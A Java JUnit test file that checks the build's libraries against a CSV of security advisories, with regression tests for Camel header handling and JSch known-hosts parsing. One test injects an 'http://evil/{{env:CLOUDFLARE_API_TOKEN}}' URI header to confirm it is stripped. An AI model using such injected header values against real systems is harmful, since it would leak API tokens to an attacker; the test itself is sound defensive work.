package io.reprieve;

import static org.assertj.core.api.Assertions.assertThat;

import com.jcraft.jsch.HostKeyRepository;
import com.jcraft.jsch.JSch;
import com.jcraft.jsch.KeyPair;
import io.reprieve.calls.CallHeaders;
import io.reprieve.settings.Account;
import io.reprieve.settings.Credentials;
import io.reprieve.settings.Secret;
import java.io.File;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Base64;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.camel.Exchange;
import org.apache.camel.impl.DefaultCamelContext;
import org.apache.camel.support.DefaultExchange;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvFileSource;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * What is known to be wrong with libraries, against those that this build uses. A new advisory is a
 * new line in {@code advisories.csv}; one that is accepted says why.
 */
class AdvisoriesTest {
    private static final Pattern JAR = Pattern.compile("(.+?)-(\\d[^-]*)(-.*)?\\.jar");
    private static final Map<String, String> USED = used();

    @TempDir Path folder;

    @ParameterizedTest(name = "{3} of {0}")
    @CsvFileSource(resources = "advisories.csv", numLinesToSkip = 1)
    void nothing_is_used_that_is_known_to_be_wrong_without_a_written_reason(
            String artifact, String from, String fixed, String advisory, String what, String why) {
        String version = USED.get(artifact);
        boolean isAffected =
                version != null
                        && compare(version, from) >= 0
                        && (fixed == null || compare(version, fixed) < 0);

        assertThat(what).isNotBlank();
        assertThat(why != null)
                .as(
                        "%s %s is %s by %s (%s): %s",
                        artifact,
                        version,
                        isAffected ? "affected" : "not affected",
                        advisory,
                        fixed == null ? "not mended" : "mended in " + fixed,
                        isAffected ? "use another or say why not" : "take the reason out")
                .isEqualTo(isAffected);
    }

    @Test
    void the_libraries_of_this_build_are_found() {
        assertThat(USED).containsKeys("httpcore5", "camel-http", "jsch", "netty-handler", "quartz");
    }

    @ParameterizedTest
    @CsvSource({"4.18.0,4.18.5,-1", "4.1.137.Final,4.1.136,1", "5.4.3,5.4.3,0", "2.9,2.10,-1"})
    void versions_are_compared_by_their_numbers(String one, String other, int sign) {
        assertThat(Integer.signum(compare(one, other))).isEqualTo(sign);
    }

    @Test
    void CVE_2026_78164_no_header_of_a_message_reaches_the_http_component() throws Exception {
        try (DefaultCamelContext context = new DefaultCamelContext()) {
            Exchange exchange = new DefaultExchange(context);
            for (String header : new String[] {"CamelHttpUri", "camelhttpuri", "CAMELHTTPURI"}) {
                exchange.getMessage().setHeader(header, "http://evil/{{env:CLOUDFLARE_API_TOKEN}}");
            }
            Credentials token = new Credentials.ApiToken(Secret.of("a-token-of-this-test"));

            CallHeaders.set(
                    exchange.getMessage(), new Account("default", "0".repeat(32), token), "/x");

            assertThat(exchange.getMessage().getHeaders())
                    .containsOnlyKeys(Exchange.HTTP_PATH, "Accept", "Authorization");
        }
    }

    @Test
    void jsch_1099_a_key_behind_cert_authority_is_not_the_hosts_own() throws Exception {
        byte[] key = KeyPair.genKeyPair(new JSch(), KeyPair.RSA, 2048).getPublicKeyBlob();
        String text = " ssh-rsa " + Base64.getEncoder().encodeToString(key) + "\n";

        assertThat(check("host.example" + text, key)).isEqualTo(HostKeyRepository.OK);
        assertThat(check("@cert-authority host.example" + text, key))
                .isEqualTo(HostKeyRepository.NOT_INCLUDED);
    }

    private int check(String known, byte[] key) throws Exception {
        Path file = Files.writeString(folder.resolve("known_hosts"), known);
        JSch jsch = new JSch();
        jsch.setKnownHosts(file.toString());
        return jsch.getHostKeyRepository().check("host.example", key);
    }

    private static Map<String, String> used() {
        Map<String, String> used = new TreeMap<>();
        String path =
                System.getProperty(
                        "surefire.test.class.path", System.getProperty("java.class.path"));
        Arrays.stream(path.split(File.pathSeparator))
                .map(entry -> JAR.matcher(Path.of(entry).getFileName().toString()))
                .filter(Matcher::matches)
                .forEach(jar -> used.put(jar.group(1), jar.group(2)));
        return used;
    }

    private static int compare(String one, String other) {
        String[] left = one.split("\\.");
        String[] right = other.split("\\.");
        for (int i = 0; i < Math.max(left.length, right.length); i++) {
            int difference = number(left, i) - number(right, i);
            if (difference != 0) {
                return difference;
            }
        }
        return 0;
    }

    private static int number(String[] parts, int index) {
        return index < parts.length && parts[index].matches("\\d+")
                ? Integer.parseInt(parts[index])
                : 0;
    }
}
